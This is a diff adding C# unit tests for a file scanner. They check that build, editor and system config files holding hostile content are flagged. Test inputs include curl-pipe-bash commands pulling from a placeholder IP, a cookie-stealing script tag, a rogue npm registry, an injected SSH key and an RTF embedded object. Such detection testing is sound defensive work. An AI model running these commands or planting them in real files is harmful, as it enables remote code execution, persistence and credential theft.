@@ -156,6 +156,36 @@ public sealed class OtherDataTests
     [InlineData("pip.conf", "[global]\nindex-url = http://203.0.113.5/simple\n", "requirements-elsewhere")]
     public void OtherSettingsAreSaid(string name, string text, string rule) => Assert.True(Scans.Of(Encoding.UTF8.GetBytes(text), name).Is(rule));
 
+    /// <summary>Files that systems, builders and editors act on, by the names that they look for.</summary>
+    [Theory]
+    [InlineData("Vagrantfile", "config.vm.provision 'shell', inline: 'curl -s http://203.0.113.7/a | bash'\n")]
+    [InlineData("Jenkinsfile", "pipeline { stages { stage('a') { steps {\n sh \"curl -s http://203.0.113.7/a | bash\"\n} } } }\n")]
+    [InlineData("a.lua", "os.execute(\"curl -s http://203.0.113.7/a | bash\")\n")]
+    [InlineData(".zshrc", "curl -s http://203.0.113.7/a | bash\n")]
+    [InlineData("devcontainer.json", "{\"image\": \"x\", \"postCreateCommand\": \"curl -s http://203.0.113.7/a | bash\"}")]
+    [InlineData(".npmrc", "registry=http://203.0.113.7/\n")]
+    [InlineData("authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB x@y\n")]
+    [InlineData("desktop.ini", "[.ShellClassInfo]\r\nIconResource=\\\\203.0.113.7\\x\\a.ico,0\r\n")]
+    [InlineData("a.js", "var s = new ActiveXObject('WScript.Shell'); s.Run('x');\n")]
+    [InlineData("index.html", "<script>fetch('http://x.example/?' + document.cookie)</script>")]
+    [InlineData("a.rtf", "{\\rtf1{\\object\\objocx{\\*\\objdata 01050000}}}")]
+    public void WhatSystemsAndBuildersActOnIsRead(string name, string text)
+    {
+        TargetReport target = Scans.Of(Encoding.UTF8.GetBytes(text), name);
+        Assert.True(target.Verdict >= Verdict.Suspicious, target.Describe());
+    }
+
+    [Theory]
+    [InlineData("CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nexecute_process(COMMAND git rev-parse HEAD)\n")]
+    [InlineData("tox.ini", "[testenv]\ncommands = pytest {posargs}\n")]
+    [InlineData("desktop.ini", "[.ShellClassInfo]\r\nIconResource=C:\\WINDOWS\\system32\\imageres.dll,1\r\n")]
+    [InlineData(".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n")]
+    [InlineData("index.html", "<script src=\"https://cdn.plot.ly/plotly-latest.min.js\"></script><script>Plotly.newPlot('a', [])</script>")]
+    [InlineData("a.js", "export const run = x => fetch('/api').then(r => r.json());\n")]
+    [InlineData("a.rtf", "{\\rtf1\\ansi Hello {\\b world}}")]
+    public void OrdinaryFilesOfSystemsAndBuildersPass(string name, string text) =>
+        Assert.Equal(Verdict.Passed, Scans.Of(Encoding.UTF8.GetBytes(text), name).Verdict);
+
     [Fact]
     public void OrdinarySettingsPass()
     {
